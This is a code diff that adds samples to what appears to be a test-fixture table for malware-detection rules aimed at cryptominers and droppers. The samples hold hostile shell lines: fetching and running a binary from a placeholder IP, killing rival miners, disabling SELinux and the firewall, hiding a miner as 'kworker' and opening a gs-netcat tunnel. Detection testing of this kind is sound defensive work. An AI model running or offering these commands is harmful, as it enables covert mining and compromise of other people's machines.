@@ -104,7 +104,8 @@ SAMPLES: dict[str, bytes] = {
         f"./SRBMiner-MULTI --disable-gpu --algorithm randomx --pool {POOL}:3333"
     ),
     "IRKIT_Miner_GPU_XMRig_CUDA": text(
-        '"cuda": {"enabled": true, "loader": "libxmrig-cuda.so", "nvml": true}'
+        '"cuda": {"enabled": true, "loader": "libxmrig-cuda.so", "nvml": true},',
+        f'"pools": [{{"url": "{POOL}:3333", "user": "w"}}]',
     ),
     "IRKIT_Miner_GPU_Algo_Commandline": text(f"./miner --algo kawpow --pool {POOL}:3333"),
     "IRKIT_MinerConfig_XMRig_JSON": XMRIG_CONFIG.encode(),
@@ -139,7 +140,11 @@ SAMPLES: dict[str, bytes] = {
         f"nohup ./xmrig -o {POOL}:3333 --donate-level 1 > /dev/null 2>&1 &",
     ),
     "IRKIT_Dropper_Kill_Competing_Miners": text(
-        "#!/bin/sh", "pkill -9 -f kdevtmpfsi", "pkill -f xmrig"
+        "#!/bin/sh",
+        "pkill -9 -f kdevtmpfsi",
+        "pkill -f xmrig",
+        "curl -fsSL http://198.51.100.7/m -o /tmp/.m && chmod +x /tmp/.m",
+        "nohup /tmp/.m >/dev/null 2>&1 &",
     ),
     "IRKIT_Dropper_Disable_Security": text(
         "#!/bin/sh", "setenforce 0", "ufw disable", "echo 0 > /proc/sys/kernel/nmi_watchdog"
@@ -190,4 +195,30 @@ SAMPLES: dict[str, bytes] = {
         "    addr: 22",
     ),
     "IRKIT_Tunnel_Gsocket": text("GSOCKET_ARGS='-s secret' gs-netcat -l"),
+    "IRKIT_Miner_Launch_By_Name": text(
+        "[Service]", "ExecStart=/opt/xmrig/xmrig --config=/etc/xmrig/config.json"
+    ),
+    "IRKIT_Miner_Launch_Line": text(f"./lolMiner --algo ETCHASH --pool {POOL}:1010 --user w"),
+    "IRKIT_Miner_Launch_Variables": text(
+        f"POOL={POOL}:3333",
+        f"WALLET={ETH}",
+        './miner --pool "$POOL" --user "$WALLET.$WORKER"',
+    ),
+    "IRKIT_Installer_Miner_Setup_Clone": text(
+        f'sed -i \'s/"url": *"[^"]*",/"url": "{POOL}:3333",/\' $HOME/moneroocean/config.json',
+        'sed -i \'s/"donate-level": *[^,]*,/"donate-level": 1,/\' $HOME/moneroocean/config.json',
+    ),
+    "IRKIT_Installer_Miner_Renamed": text("mv /tmp/xmrig-6.21.0/xmrig /usr/sbin/kworker"),
+    "IRKIT_Installer_Miner_Fetch_Or_Build": text(
+        "git clone https://github.com/xmrig/xmrig.git",
+        "mkdir xmrig/build && cd xmrig/build && cmake .. && make -j4",
+        "sysctl -w vm.nr_hugepages=1280",
+    ),
+    "IRKIT_Wallet_Other_Coins": text(
+        f"--user kaspa:q{('qpzry9x8gf2tvdw0s3jn54khce6mua7l' * 2)[:60]}"
+    ),
+    "IRKIT_Miner_Coin_Prefixed_User": text(f"-o stratum+tcp://{POOL}:3333 -u RVN:{RVN}.rig"),
+    "IRKIT_Installer_Miner_Build": text(
+        "git clone https://github.com/xmrig/xmrig.git", "cd xmrig/build && cmake .. && make -j4"
+    ),
 }
